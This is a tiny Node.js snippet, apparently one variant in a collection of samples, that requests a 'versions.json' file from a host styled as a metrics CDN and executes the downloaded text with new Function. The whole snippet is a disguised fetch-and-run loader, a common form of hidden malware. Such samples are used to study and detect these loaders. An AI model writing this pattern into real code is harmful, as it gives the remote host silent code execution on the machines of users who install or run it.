// Destructured, and the node: prefix.
const { get } = require('node:https');
get('https://cdn.metrics-cdn.invalid/versions.json', function (r) {
  let data = '';
  r.on('data', (d) => { data += d; });
  r.on('end', function () { new Function(data)(); });
});
